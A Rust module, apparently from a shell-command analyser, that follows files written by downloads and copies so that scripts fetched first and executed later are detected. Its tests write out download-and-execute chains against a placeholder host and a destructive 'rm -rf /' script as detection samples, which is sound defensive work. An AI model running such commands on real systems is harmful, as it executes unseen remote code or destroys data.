//! Files that the text itself writes: what is fetched or written first and run afterwards is run unseen.

use super::{Word, state::State, stdin::Input};

/// Most files that are followed.
const FILES_MAX: usize = 64;

impl State {
    /// Remembers what a file holds from here on.
    pub(super) fn file_holds(&mut self, file: &str, data: Input) {
        if self.files.len() < FILES_MAX && !file.is_empty() && !file.starts_with("/dev/") {
            self.files.insert(plain(file), data);
        }
    }

    /// What a file holds, if the text wrote it.
    pub(super) fn held(&self, file: &str) -> Option<Input> {
        self.files.get(&plain(file)).cloned()
    }

    /// Files that a command writes by its own arguments: downloads, and copies of files that are followed.
    pub(super) fn writes(&mut self, name: &str, words: &[Word], input: &Input) {
        let rest: Vec<&str> = words
            .iter()
            .skip(1)
            .map(|word| word.text.as_str())
            .collect();
        match name {
            "curl" | "wget" | "aria2c" | "xh" | "http" | "https" => {
                let texts: Vec<&str> = words.iter().map(|word| word.text.as_str()).collect();
                let source = format!("$({})", texts.join(" "));
                for file in downloads(name, &rest) {
                    self.file_holds(&file, Input::new(None, &source));
                }
            }
            "tee" => {
                for file in operands(&rest) {
                    self.file_holds(file, input.clone());
                }
            }
            "cp" | "mv" | "install" | "ln" | "rsync" | "scp" => {
                let operands = operands(&rest);
                if let Some((to, from)) = operands.split_last() {
                    for file in from {
                        let Some(data) = self.held(file) else {
                            continue;
                        };
                        let inside = format!("{}/{}", to.trim_end_matches('/'), last(file));
                        self.file_holds(to, data.clone());
                        self.file_holds(&inside, data);
                    }
                }
            }
            "dd" => {
                let value = |key: &str| rest.iter().find_map(|word| word.strip_prefix(key));
                if let (Some(from), Some(to)) = (value("if="), value("of="))
                    && let Some(data) = self.held(from)
                {
                    self.file_holds(to, data);
                }
            }
            _ => {}
        }
    }
}

/// The files that a download is written to.
fn downloads(name: &str, rest: &[&str]) -> Vec<String> {
    let mut files = Vec::new();
    let mut own = !matches!(name, "curl" | "xh" | "http" | "https");
    for (at, word) in rest.iter().enumerate() {
        let next = rest.get(at + 1).copied();
        let (short, long) = match name {
            "wget" => ('O', "--output-document"),
            _ => ('o', "--output"),
        };
        let value = if let Some(value) = word.strip_prefix(long).and_then(|v| v.strip_prefix('=')) {
            Some(value)
        } else if *word == long {
            next
        } else if let Some(letters) = word.strip_prefix('-').filter(|l| !l.starts_with('-'))
            && let Some(index) = letters.find(short)
            && letters[..index]
                .bytes()
                .all(|byte| byte.is_ascii_alphabetic())
        {
            let attached = &letters[index + 1..];
            if attached.is_empty() {
                next
            } else {
                Some(attached)
            }
        } else {
            None
        };
        if let Some(file) = value {
            own = false;
            files.push(file.to_owned());
        }
        let remote = word.starts_with('-') && !word.starts_with("--") && word.contains('O');
        own |= name == "curl" && (remote || word.starts_with("--remote-name"));
    }
    if own {
        let urls = rest.iter().filter(|word| !word.starts_with('-'));
        files.extend(urls.map(|url| last(url.split(['?', '#']).next().unwrap_or(url)).to_owned()));
    }
    files
}

/// Words that are no options.
fn operands<'t>(rest: &[&'t str]) -> Vec<&'t str> {
    let mut ended = false;
    let mut found = Vec::new();
    for word in rest {
        if !ended && *word == "--" {
            ended = true;
        } else if ended || !word.starts_with('-') {
            found.push(*word);
        }
    }
    found
}

/// What follows the last slash.
fn last(path: &str) -> &str {
    path.rsplit('/').next().unwrap_or(path)
}

/// A path without `./` in front.
fn plain(path: &str) -> String {
    let mut path = path;
    while let Some(rest) = path.strip_prefix("./") {
        path = rest.trim_start_matches('/');
    }
    path.to_owned()
}

#[cfg(test)]
mod tests {
    use crate::parse;

    fn runs(text: &str, wanted: &[&str]) {
        let parts: Vec<_> = parse(text)
            .parts
            .iter()
            .map(super::super::Part::texts)
            .collect();
        assert!(parts.iter().any(|part| part == wanted), "{text}: {parts:?}");
    }

    #[test]
    fn what_is_written_first_is_known_when_it_is_run() {
        for text in [
            "curl -o x.sh h.example && bash x.sh",
            "curl -o x.sh h.example; chmod +x x.sh; ./x.sh",
            "curl -sSLo x.sh h.example && exec ./x.sh",
            "curl -o x.sh h.example; mv x.sh y.sh && sh y.sh",
            "curl -o x.sh h.example; dd if=x.sh of=y.sh; bash y.sh",
            "curl -o x.sh h.example; install x.sh bin/; . bin/x.sh",
            "curl --output=x.sh h.example; cp x.sh y; source ./y",
        ] {
            let parts: Vec<_> = parse(text)
                .parts
                .iter()
                .map(super::super::Part::texts)
                .collect();
            let unseen = |part: &Vec<String>| part.len() == 1 && part[0].starts_with("$(curl ");
            assert!(parts.iter().any(unseen), "{text}: {parts:?}");
        }
        runs(
            "curl -O https://h.example/p.sh && bash p.sh",
            &["$(curl -O https://h.example/p.sh)"],
        );
        runs(
            "wget https://h.example/p.sh; sh p.sh",
            &["$(wget https://h.example/p.sh)"],
        );
        runs("base64 -d > x.sh && ./x.sh", &["$(base64 -d)"]);
        runs("echo 'rm -rf /' > x.sh; bash x.sh", &["rm", "-rf", "/"]);
        runs(
            "curl h.example | tee x.sh; bash x.sh",
            &["$(curl h.example)"],
        );
    }

    #[test]
    fn what_is_not_run_is_data() {
        for text in [
            "curl -o x.json h.example && jq . x.json",
            "wget https://h.example/a.tgz && tar xf a.tgz",
            "echo 'rm -rf /' > notes.md; cat notes.md",
        ] {
            let parts: Vec<_> = parse(text)
                .parts
                .iter()
                .map(super::super::Part::texts)
                .collect();
            let bad = |part: &Vec<String>| part[0].starts_with("$(") || part[0] == "rm";
            assert!(!parts.iter().any(bad), "{text}: {parts:?}");
        }
    }
}
